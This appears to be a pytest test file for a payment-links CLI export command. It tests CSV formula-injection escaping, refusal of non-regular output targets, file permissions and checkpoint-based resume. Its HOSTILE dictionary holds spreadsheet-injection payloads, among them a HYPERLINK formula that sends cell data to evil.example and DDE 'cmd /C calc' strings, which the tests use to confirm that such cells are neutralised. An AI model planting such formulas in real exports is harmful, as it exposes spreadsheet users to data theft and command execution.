"""``ipay-links export -o FILE``: safe CSV, safe targets, no dead end, checkpoints that cannot lie.

In-process (``main([...])``) against the simulator on a loopback port; the crashes,
the full disk and the two writers, which need real processes, are in
``test_export_crashes.py``.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shlex
import socket
import stat
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from ipay_links import Credentials, PayoutLink
from ipay_links.cli import main
from ipay_links.cli._formats import make_writer
from ipay_links.testing import Fault, Simulator, generate_links

from .test_cli import (
    SECRET,
    library_log_level,  # noqa: F401  # autouse
    serving,
)

CREDENTIALS = Credentials("cli-client", SECRET, "127.0.0.1")


@pytest.fixture
def env(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("IPAY_CLIENT_ID", CREDENTIALS.client_id)
    monkeypatch.setenv("IPAY_CLIENT_SECRET", CREDENTIALS.client_secret)
    monkeypatch.setenv("IPAY_ENDPOINT_IP", CREDENTIALS.endpoint_ip)


@pytest.fixture
def sim() -> Simulator:
    return Simulator(57, seed=4, credentials=CREDENTIALS)


@pytest.fixture
def url(sim: Simulator, env: None) -> Iterator[str]:
    with serving(sim) as base_url:
        yield base_url


def argv_of(url: str, out: Path, *extra: str) -> list[str]:
    return ["export", "--base-url", url, "--per-page", "10", "-o", str(out), "-q", *extra]


def listing(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


def reference(url: str, folder: Path, *extra: str) -> bytes:
    """The bytes of an export that nothing interrupted."""
    out = folder / "reference" / "links"
    out.parent.mkdir()
    assert main(argv_of(url, out, *extra)) == 0
    return out.read_bytes()


# -- CSV cells that a spreadsheet would run ---------------------------------------------

HOSTILE = {
    (0, "purpose"): '=HYPERLINK("http://evil.example/?d="&A2,"Refund")',
    (1, "description"): "+1+cmd|' /C calc'!A0",
    (2, "contact_name"): "@SUM(1+1)*cmd|' /C calc'!A0",
    (3, "reference_no"): "-2+3",
    (4, "order_id"): "\t=1+1",
    (5, "description"): "\r=1+1",
}
WIRE_NAMES = {"purpose": "purpose", "description": "description", "reference_no": "referenceNo"}
WIRE_NAMES |= {"order_id": "orderId"}


def hostile_simulator() -> Simulator:
    links = generate_links(8, seed=3)
    for (row, name), text in HOSTILE.items():
        if name == "contact_name":
            links[row]["contactDetails"]["name"] = text
        else:
            links[row][WIRE_NAMES[name]] = text
    return Simulator(links, credentials=CREDENTIALS)


@pytest.mark.parametrize("raw", [False, True])
def test_csv_cells_that_would_run_as_formulas_get_a_quote_unless_csv_raw(
    env: None, tmp_path: Path, raw: bool
) -> None:
    sim = hostile_simulator()
    out = tmp_path / "links.csv"
    with serving(sim) as url:
        extra = ["--format", "csv", *(["--csv-raw"] if raw else [])]
        assert main(argv_of(url, out, *extra)) == 0
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    for (number, name), text in HOSTILE.items():
        assert rows[number][name] == (text if raw else "'" + text)
    for row, wire in zip(rows, sim.links, strict=True):
        assert Decimal(row["amount"]) == Decimal(str(wire["amount"]))
        assert row["link_id"] == wire["linkId"]  # a cell that needs nothing is left alone
        assert row["contact_mobile"] == wire["contactDetails"]["mobile"]


def test_a_negative_amount_stays_a_number_where_the_same_text_is_neutralised() -> None:
    buffer = io.StringIO()
    link = PayoutLink(link_id="x1", status="ISSUED", amount=Decimal("-1.50"), purpose="-1.50")
    make_writer("csv", buffer).write([link])
    (row,) = csv.DictReader(io.StringIO("link_id,status,amount,purpose\r\n" + buffer.getvalue()))
    assert (row["amount"], row["purpose"]) == ("-1.50", "'-1.50")


# -- targets that are not regular files ------------------------------------------------


def make_target(kind: str, folder: Path) -> tuple[str, Callable[[], None]]:
    """A path of ``kind`` in ``folder`` (the working directory); and how to clean it up."""
    name = "links.jsonl"
    if kind == "a directory":
        (folder / name).mkdir()
    elif kind == "a symbolic link":
        (folder / "real.jsonl").write_text("the link's target, kept")
        (folder / name).symlink_to("real.jsonl")
    elif kind == "a FIFO (named pipe)":
        os.mkfifo(folder / name)
    elif kind == "a socket":
        sock = socket.socket(socket.AF_UNIX)
        sock.bind(name)  # relative: a socket's path is short
        return name, sock.close
    else:
        return "/dev/null", lambda: None
    return name, lambda: None


@pytest.mark.parametrize(
    "kind",
    ["a directory", "a symbolic link", "a FIFO (named pipe)", "a socket", "a character device"],
)
def test_a_target_that_is_not_a_regular_file_is_refused_before_any_request(
    sim: Simulator,
    url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    kind: str,
) -> None:
    monkeypatch.chdir(tmp_path)
    name, close = make_target(kind, tmp_path)
    before = listing(tmp_path)
    try:
        for extra in ([], ["--force"], ["--resume"], ["--restart"]):
            assert main(argv_of(url, Path(name), *extra)) == 2
            (line,) = capsys.readouterr().err.splitlines()
            assert f"-o {name} is {kind}: give the path of a regular file" in line
    finally:
        close()
    assert sim.request_count == 0
    assert listing(tmp_path) == before  # no FILE.partial, .checkpoint or .lock
    if kind == "a symbolic link":
        assert (tmp_path / name).is_symlink()
        assert (tmp_path / "real.jsonl").read_text() == "the link's target, kept"


def test_a_target_in_a_missing_directory_is_refused(
    sim: Simulator, url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(argv_of(url, tmp_path / "nowhere" / "links.jsonl")) == 2
    assert "the directory" in capsys.readouterr().err
    assert sim.request_count == 0


def test_an_existing_export_is_replaced_only_with_force_keeping_its_mode(
    sim: Simulator, url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "links.jsonl"
    out.write_text("last month's export")
    out.chmod(0o444)
    assert main(argv_of(url, out)) == 2
    assert "exists: add --force to replace it" in capsys.readouterr().err
    assert main(argv_of(url, out, "--force")) == 2
    assert "is read-only (mode 0444)" in capsys.readouterr().err
    assert sim.request_count == 0
    assert (out.read_text(), stat.S_IMODE(out.stat().st_mode)) == ("last month's export", 0o444)
    out.chmod(0o640)
    assert main(argv_of(url, out, "--force")) == 0
    assert len(out.read_text().splitlines()) == 57
    assert stat.S_IMODE(out.stat().st_mode) == 0o640
    assert listing(tmp_path) == ["links.jsonl"]


def test_new_files_are_readable_by_their_owner_only(
    sim: Simulator, url: str, tmp_path: Path
) -> None:
    out = tmp_path / "links.jsonl"
    sim.inject(Fault.envelope("IAC", "Invalid dealer credentials"), page=3)
    previous = os.umask(0)  # the most permissive umask: the modes must come from the export
    try:
        assert main(argv_of(url, out)) == 3
        assert listing(tmp_path) == ["links.jsonl.checkpoint", "links.jsonl.partial"]
        for path in tmp_path.iterdir():  # a checkpoint holds --contact: personal data
            assert stat.S_IMODE(path.stat().st_mode) == 0o600, path.name
        assert main(argv_of(url, out, "--resume")) == 0
    finally:
        os.umask(previous)
    assert listing(tmp_path) == ["links.jsonl"]
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


class AtPage:
    """Runs ``action`` as the simulator serves ``page``: a change made while an export runs.

    (The simulator's mutations are applied as a page is served; this one changes the
    files instead of the data set.)
    """

    def __init__(self, page: int, action: Callable[[], object]) -> None:
        self.page, self.action = page, action

    def due(self, seen: Any, served_pages: set[int | None], number: int) -> bool:
        return bool(seen.page == self.page)

    def apply(self, links: list[dict[str, Any]], rng: Any, next_index: int) -> int:
        self.action()
        return 0


def test_the_rename_never_replaces_a_directory_made_meanwhile_and_resume_finishes(
    sim: Simulator, url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    expected = reference(url, tmp_path)
    out = tmp_path / "links.jsonl"
    sim.mutate(AtPage(6, out.mkdir))  # type: ignore[arg-type]  # as page 6, the last, is served
    argv = argv_of(url, out, "--restart")  # the resume command drops it
    assert main(argv) == 2
    hint, error = capsys.readouterr().err.splitlines()
    resume = shlex.join(["ipay-links", *argv[:-1], "--resume"])
    kept = f"ipay-links: 50 links of whole pages are kept in {out}.partial"
    assert hint == f"{kept}; to go on from there: {resume}"
    assert error == f"ipay-links: error: {out} is a directory now: it is not replaced by the export"
    assert out.is_dir()
    sim.mutations.clear()
    out.rmdir()
    assert main(shlex.split(resume)[1:]) == 0  # from page 5's checkpoint: none says "done"
    assert out.read_bytes() == expected
    assert listing(tmp_path) == ["links.jsonl", "reference"]


# -- no dead end -----------------------------------------------------------------------


@pytest.mark.parametrize("failure", ["wrong secret", "unreachable", "IAC on page 1"])
def test_a_run_that_fails_before_its_first_whole_page_leaves_nothing_behind(
    sim: Simulator,
    url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    failure: str,
) -> None:
    out = tmp_path / "links.jsonl"
    argv = argv_of(url, out, "--retries", "1")
    if failure == "wrong secret":
        monkeypatch.setenv("IPAY_CLIENT_SECRET", "not-" + SECRET)
    elif failure == "unreachable":
        argv[2] = "http://127.0.0.1:9"  # the discard port: nothing listens there
    else:
        sim.inject(Fault.envelope("IAC", "Invalid dealer credentials"), page=1)
    assert main(argv) in (3, 4)
    assert "--resume" not in capsys.readouterr().err
    assert listing(tmp_path) == []
    monkeypatch.setenv("IPAY_CLIENT_SECRET", SECRET)
    assert main(argv_of(url, out)) == 0  # the next plain run goes ahead
    assert len(out.read_text().splitlines()) == 57


def interrupted(sim: Simulator, url: str, out: Path, *extra: str) -> list[str]:
    """An export of ``out`` that failed at page 4 (30 links kept); its command line."""
    sim.inject(Fault.envelope("IAC", "Invalid dealer credentials"), page=4)
    argv = argv_of(url, out, *extra)
    assert main(argv) == 3
    return argv


def test_a_leftover_is_refused_with_the_exact_commands_that_go_on_or_start_again(
    sim: Simulator, url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    expected = reference(url, tmp_path, "--format", "csv")
    out = tmp_path / "May's links.csv"  # the command must quote it for a shell
    argv = interrupted(sim, url, out, "--format", "csv")
    capsys.readouterr()
    kept = {path.name: path.read_bytes() for path in tmp_path.glob("May*.csv.*")}
    assert main(argv) == 2
    message = capsys.readouterr().err.strip()
    assert "(30 links of whole pages): add --resume to go on with it" in message
    command = message.rsplit("discard it and start again: ", 1)[1]
    assert command == shlex.join(["ipay-links", *argv, "--restart"])
    assert {path.name: path.read_bytes() for path in tmp_path.glob("May*.csv.*")} == kept
    assert main(shlex.split(command)[1:]) == 0
    assert out.read_bytes() == expected
    assert listing(tmp_path) == [out.name, "reference"]


def test_resume_goes_on_from_a_checkpoint_saved_before_its_partial_file_was_created(
    sim: Simulator, url: str, tmp_path: Path
) -> None:
    expected = reference(url, tmp_path)
    out = tmp_path / "links.jsonl"
    argv = interrupted(sim, url, out)
    saved = json.loads((tmp_path / "links.jsonl.checkpoint").read_text())
    # What a crash between the first checkpoint and the partial file's creation leaves.
    saved |= {"offset": 0, "links_written": 0, "sha256": hashlib.sha256().hexdigest()}
    saved["checkpoint"] |= {"next_page": 1, "page_size": None, "total_records": None, "seen": []}
    (tmp_path / "links.jsonl.checkpoint").write_text(json.dumps(saved))
    (tmp_path / "links.jsonl.partial").unlink()
    assert main([*argv, "--resume"]) == 0
    assert out.read_bytes() == expected


def test_resume_cuts_back_what_came_after_the_last_whole_page(
    sim: Simulator, url: str, tmp_path: Path
) -> None:
    expected = reference(url, tmp_path)
    out = tmp_path / "links.jsonl"
    argv = interrupted(sim, url, out)
    with (tmp_path / "links.jsonl.partial").open("ab") as partial:  # more than the rest
        partial.write(b'{"link_id": "half a page, then a crash' + b"x" * len(expected))
    assert main([*argv, "--resume"]) == 0
    assert out.read_bytes() == expected


# -- checkpoints that cannot lie -------------------------------------------------------

Mutation = Callable[[dict[str, Any], bytearray], None]


def _into_a_line(saved: dict[str, Any], partial: bytearray) -> None:
    saved["offset"] -= 5


def _into_a_line_with_its_digest(saved: dict[str, Any], partial: bytearray) -> None:
    saved["offset"] -= 5
    saved["sha256"] = hashlib.sha256(partial[: saved["offset"]]).hexdigest()


def _edited(saved: dict[str, Any], partial: bytearray) -> None:
    partial[40] ^= 1


def _cut(saved: dict[str, Any], partial: bytearray) -> None:
    del partial[saved["offset"] - 100 :]


def _set(*path: str, value: Any) -> Mutation:
    def mutate(saved: dict[str, Any], partial: bytearray) -> None:
        where = saved
        for key in path[:-1]:
            where = where[key]
        where[path[-1]] = value

    return mutate


LIES: dict[str, tuple[Mutation, str]] = {
    "offset into a line": (_into_a_line, "are not those its checkpoint recorded"),
    "offset into a line, digest of it": (_into_a_line_with_its_digest, "does not end a line"),
    "partial file edited": (_edited, "are not those its checkpoint recorded"),
    "partial file cut": (_cut, "bytes, fewer than the"),
    "next page null": (_set("checkpoint", "next_page", value=None), "(next_page is null)"),
    "query swapped": (
        _set("checkpoint", "query", "status", value=["CLAIMED"]),
        "asks for other links than the interrupted export (status differ)",
    ),
    "negative offset": (_set("offset", value=-1), "(offset must be at least 0, got -1)"),
    "offset a string": (_set("offset", value="300"), "(offset must be an int, not str)"),
    "count off by one": (
        _set("links_written", value=31),
        "holds 30 links in its whole pages, its checkpoint says 31",
    ),
    "csv_raw a string": (_set("csv_raw", value="false"), "csv_raw must be true or false"),
    "seen not strings": (_set("checkpoint", "seen", value=[1]), "seen must be a list of strings"),
    "page size 0": (_set("checkpoint", "page_size", value=0), "page_size must be at least 1"),
    "page size over per_page": (
        _set("checkpoint", "page_size", value=11),
        "page_size 11 is more than per_page 10",
    ),
    "another version": (_set("version", value=1), "saved by another version of ipay-links"),
    "unknown key": (_set("written_by", value="me"), "is not a checkpoint"),
    "unknown format": (_set("format", value="xml"), "format 'xml' is none of jsonl, csv, json"),
    "digest not hex": (_set("sha256", value="f" * 63 + "g"), "sha256 is not 64 hexadecimal"),
}


@pytest.mark.parametrize("lie", [None, *LIES])
def test_resume_refuses_a_checkpoint_that_does_not_match_naming_the_mismatch(
    sim: Simulator,
    url: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    lie: str | None,
) -> None:
    out = tmp_path / "links.jsonl"
    argv = interrupted(sim, url, out)
    saved_path, partial_path = tmp_path / "links.jsonl.checkpoint", tmp_path / "links.jsonl.partial"
    saved, partial = json.loads(saved_path.read_text()), bytearray(partial_path.read_bytes())
    assert (saved["offset"], saved["links_written"]) == (len(partial), 30)
    if lie is None:  # the truth: resumed
        assert main([*argv, "--resume"]) == 0
        assert len(out.read_text().splitlines()) == 57
        return
    mutate, message = LIES[lie]
    mutate(saved, partial)
    saved_path.write_text(json.dumps(saved))
    partial_path.write_bytes(partial)
    requests = sim.request_count
    capsys.readouterr()
    assert main([*argv, "--resume"]) == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert line.startswith("ipay-links: error: --resume: ") and message in line
    restart = shlex.join(["ipay-links", *argv, "--restart"])
    assert line.endswith(f"to discard links.jsonl.partial and start again: {restart}")
    assert sim.request_count == requests
    assert json.loads(saved_path.read_text()) == saved
    assert partial_path.read_bytes() == partial
